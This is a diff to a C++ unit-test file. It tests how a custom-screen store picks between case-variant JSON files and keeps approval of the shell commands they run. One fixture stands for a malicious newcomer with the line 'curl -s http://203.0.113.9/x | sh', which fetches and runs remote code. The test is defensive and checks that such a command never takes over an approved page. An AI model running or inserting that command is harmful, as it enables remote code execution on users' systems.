@@ -168,20 +168,90 @@ TEST_F(CustomScreenStoreTest, BrokenFileKeepsItsLastGoodVersion)
     EXPECT_FALSE(store->reports().at(0).isShowingLastGoodVersion);
 }
 
-TEST_F(CustomScreenStoreTest, SecondFileForTheSamePageNameIsNotRead)
+// Files that give one page name in other letter cases: one of them keeps the page, and each other
+// one says so. Whichever names sort first, and whatever the newcomers hold, the page stays with a
+// file whose approval holds, and every file that waits for approval is left out.
+TEST_F(CustomScreenStoreTest, AFileThatComesLaterNeverTakesAnApprovedPage)
 {
-    write(QStringLiteral("Clock.json"), screenJson(QStringLiteral("Upper")));
-    write(QStringLiteral("clock.json"), screenJson(QStringLiteral("Lower")));
+    const QStringList names{QStringLiteral("disk.json"), QStringLiteral("DISK.JSON"), QStringLiteral("Disk.json"),
+                            QStringLiteral("disk.JSON")};
+    const QByteArray approvedBytes = commandScreenJson(QStringLiteral("df -h /"));
+    const QByteArray otherBytes = commandScreenJson(QStringLiteral("curl -s http://203.0.113.9/x | sh"));
+    const auto duplicateIssue = [](const QString& name) {
+        return QList<ScreenIssue>{{name, QString(), QStringLiteral("another file already provides a page named \u201C") +
+                                                       name.chopped(5) + QStringLiteral("\u201D")}};
+    };
+    // The approved file first in file order, and last.
+    for (const QString& approvedName : {QStringLiteral("DISK.JSON"), QStringLiteral("disk.json")}) {
+        QStringList others = names;
+        others.removeOne(approvedName);
+        // Every set of newcomers, each holding the approved file's bytes or other ones.
+        for (int mask = 1; mask < (1 << (2 * others.size())); ++mask) {
+            QHash<QString, QByteArray> newcomers;
+            for (int i = 0; i < others.size(); ++i)
+                if (mask & (1 << (2 * i)))
+                    newcomers.insert(others[i], mask & (1 << (2 * i + 1)) ? approvedBytes : otherBytes);
+            if (newcomers.isEmpty())
+                continue;
+            QDir(folder).removeRecursively();
+            write(approvedName, approvedBytes);
+            makeStore();
+            reload();
+            const QString approvedID = approvedName.chopped(5);
+            store->trust().approveScreen(*store->screenWithID(approvedID));
+            const QString fingerprint = store->trust().approved().value(approvedID);
+            for (auto it = newcomers.cbegin(); it != newcomers.cend(); ++it)
+                write(it.key(), it.value());
+            reload();
+            const std::string which = (approvedName + QStringLiteral(" + ") + newcomers.keys().join(u' ')).toStdString();
+
+            // One page, and it runs what was approved.
+            ASSERT_EQ(store->screens().size(), 1) << which;
+            const CustomScreen shown = store->screens()[0];
+            EXPECT_TRUE(store->trust().isScreenApproved(shown)) << which;
+            EXPECT_EQ(shown.fingerprint(), fingerprint) << which;
+            EXPECT_EQ(store->approvedScreenIDs(), QStringList{shown.id}) << which;
+            EXPECT_EQ(store->trust().approved().value(approvedID), fingerprint) << which;
+            // The file that gives it is named as it is on disk; every other one says it is left out.
+            const QString keeper = store->fileNameOf(shown.id);
+            EXPECT_TRUE(keeper == approvedName || newcomers.value(keeper) == approvedBytes) << which;
+            for (const CustomScreenStore::FileReport& report : store->reports()) {
+                EXPECT_EQ(report.isLoaded, report.fileName == keeper) << which;
+                if (report.fileName != keeper) {
+                    EXPECT_EQ(report.issues, duplicateIssue(report.fileName)) << which;
+                }
+            }
+        }
+    }
+}
+
+// Between two files that both wait, or both run, the first in file order keeps the page; a
+// revocation or an approval that makes them differ moves it at once.
+TEST_F(CustomScreenStoreTest, BetweenFilesOfTheSameStandingTheFirstKeepsThePage)
+{
+    write(QStringLiteral("disk.json"), commandScreenJson(QStringLiteral("df -h /")));
+    write(QStringLiteral("DISK.JSON"), commandScreenJson(QStringLiteral("df -h /home")));
     makeStore();
     reload();
-    ASSERT_EQ(store->screens().size(), 1);
-    const QString second = store->reports().at(1).fileName;
-    const QString secondID = second.chopped(5);
-    EXPECT_EQ(store->reports().at(1).issues,
-              (QList<ScreenIssue>{{second, QString(),
-                                   QStringLiteral("another file already provides a page named \u201C") + secondID +
-                                       QStringLiteral("\u201D")}}));
-    EXPECT_FALSE(store->reports().at(1).isShowingLastGoodVersion);
+    ASSERT_EQ(ids(), QStringList{QStringLiteral("DISK")});
+    EXPECT_EQ(store->reports().at(1).fileName, QStringLiteral("disk.json"));
+    EXPECT_FALSE(store->reports().at(1).isLoaded);
+
+    // The first, allowed, stays; then the second is the one allowed, and it takes the page.
+    store->trust().approveScreen(*store->screenWithID(QStringLiteral("DISK")));
+    reload();
+    EXPECT_EQ(ids(), QStringList{QStringLiteral("DISK")});
+    store->trust().revokeScreen(QStringLiteral("DISK"));
+    QList<ScreenIssue> issues;
+    const std::optional<CustomScreen> lower = CustomScreen::parse(commandScreenJson(QStringLiteral("df -h /")),
+                                                                  QStringLiteral("disk"), QStringLiteral("disk.json"),
+                                                                  issues);
+    ASSERT_TRUE(lower);
+    store->trust().approveScreen(*lower);
+    ASSERT_TRUE(waitUntil([&] { return ids() == QStringList{QStringLiteral("disk")}; }));
+    ASSERT_TRUE(waitUntilLoaded(*store));
+    EXPECT_EQ(store->fileNameOf(QStringLiteral("disk")), QStringLiteral("disk.json"));
+    EXPECT_FALSE(store->reports().at(0).isLoaded);
 }
 
 TEST_F(CustomScreenStoreTest, FifosDevicesAndHugeFilesAreReportedUnreadableWithoutBlocking)
